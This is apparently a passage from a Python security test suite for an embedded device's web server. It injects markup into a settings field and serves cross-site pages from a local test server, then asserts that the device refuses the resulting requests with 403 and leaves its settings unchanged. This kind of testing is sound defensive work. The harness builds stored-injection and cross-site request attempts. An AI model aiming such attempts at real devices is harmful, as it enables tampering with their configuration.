    def value(name, text, own, foreign):
        own, foreign = own + f"echo.{name}", f"{foreign}?attempt=echo.{name}"
        if "{f}" in text:
            return text.format(u=own, f=foreign, n=0)
        # Both in one page.
        return text.format(u=own, n=0) + text.format(u=foreign, n=1)

    def test_each_kind_works_on_an_unprotected_page(self):
        if not browser.IS_LONG:
            self.skipTest("for --long")
        foreign = CANARY + "/permit"
        inert = []
        for name, text in MARKUP.items():
            path = f"/echo/{name}"
            value = self.value(name, text, foreign + "?attempt=", foreign)
            DOCUMENT_OF[path] = (200, {}, f"<!DOCTYPE html><title>x</title><p>Set to {value} ms.</p>")
            self.open(FOREIGN + path)
            if not eventually(
                lambda: f"echo.{name}" in HITS.attempts() or self.driver.title == "harm", 0.3
            ):
                inert.append(name)
        print(f"kinds of markup: {len(MARKUP)}; without an effect on an open page: {len(inert)}")
        print("  " + " ".join(inert))
        self.assertLess(len(inert), len(MARKUP) // 3)

    def test_what_is_stored_is_what_was_asked_for(self):
        ways = ("get", "post") if browser.IS_LONG else ("get",)
        for name, value in self.values():
            for way in ways:
                with self.subTest(kind=name, way=way):
                    self.send(value, way)
                    self.assertIn("Set CanDetectTimeout", self.driver.page_source)
                    self.assertEqual(self.driver.title, "VEMO Web Server - SetObdConf")
                    self.assertIn(f"\nVEMODCanDetectTimeout={value}\n", SETTINGS.read_text())
        time.sleep(1)
        asked = 0
        for path, status, method in requests_of(access_log()):
            if path.startswith(self.OWN):
                asked += 1
                self.assertEqual(status, 403, f"{method} {path}")
        self.assertEqual(HITS.attempts(), set(), "loaded from a foreign server")
        print(f"kinds of markup: {len(MARKUP)}; requests by the page itself, refused: {asked}")

    def values(self):
        """One by one; elsewhere than on loopback, as many of the simple ones in a page as a request holds."""
        values = {name: self.value(name, text, self.OWN, CANARY + "/permit") for name, text in MARKUP.items()}
        if browser.is_on_loopback() or browser.IS_LONG:
            return list(values.items())
        found = [("", "")]
        for name, value in values.items():
            if name.startswith("part-"):
                together = found[-1][1] + value
                # A digest repeats the address.
                if len(urllib.parse.quote_plus(together)) > (1500 if browser.HAS_PASSWORD else 3000):
                    found.append(("", ""))
                    together = value
                found[-1] = (f"{found[-1][0]} {name}", together)
        return found

    def send(self, value, way):
        if way == "get":
            browser.open_page(self.driver, browser.success(value))
            return
        browser.open_page(self.driver, browser.FORM)
        self.driver.execute_script(
            "const field = document.getElementById('timeout');"
            "field.value = arguments[0]; field.form.submit()",
            value,
        )
        eventually(lambda: self.driver.title == "VEMO Web Server - SetObdConf")


class SecondEngine(Attack):
    """Firefox, which needs no driver: it loads a page and takes a picture."""

    @staticmethod
    def load(url):
        with tempfile.TemporaryDirectory(dir="/tmp", ignore_cleanup_errors=True) as folder:
            firefox = subprocess.Popen(
                ["/usr/bin/firefox-esr", "--headless", "--profile", folder, "--screenshot", f"{folder}/picture.png",
                 url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            try:
                firefox.wait(3 * LIMIT)
            except subprocess.TimeoutExpired:
                pass  # it waits for a page that leads to nothing
            with contextlib.suppress(ProcessLookupError):
                os.killpg(firefox.pid, signal.SIGKILL)
            firefox.wait()

    def attack(self, target, tag):
        attempts = Attempts(FOREIGN, target, tag)
        for path, *document in (*attempts.texts(), *attempts.pages()):
            DOCUMENT_OF[path] = document
            self.load(FOREIGN + path)
        return len(attempts.names)

    def test_foreign_pages_change_nothing_of_the_device(self):
        if not browser.IS_LONG or browser.HAS_TLS or browser.HAS_PASSWORD:
            self.skipTest("for --long, and what Firefox takes without being told")
        made = self.attack(CANARY + "/permit", "firefox")
        sent = len(HITS.attempts())
        print(f"ways to ask: {made}, of which Firefox sends {sent}")
        self.assertGreater(sent, made // 2)

        self.attack(f"{browser.ROOT}/{SET_OPTION}", "firefox")
        time.sleep(1)
        asked = [(status, method, path) for path, status, method in requests_of(access_log())
                 if "attempt=firefox." in path]
        print(f"the device was asked {len(asked)} times")
        self.assertGreater(len(asked), sent // 2)
        self.assertEqual({status for status, *_ in asked}, {403}, asked)
        self.assertEqual(SETTINGS.read_bytes(), SHIPPED_SETTINGS.read_bytes())


if __name__ == "__main__":
    arguments = browser.read_arguments("Attacks the device from a browser.")
    if not browser.is_on_loopback():
        CANARY, FOREIGN = f"http://{OTHER_ADDRESS}:9003", f"http://{OTHER_ADDRESS}:9001"
    unittest.main(argv=arguments)
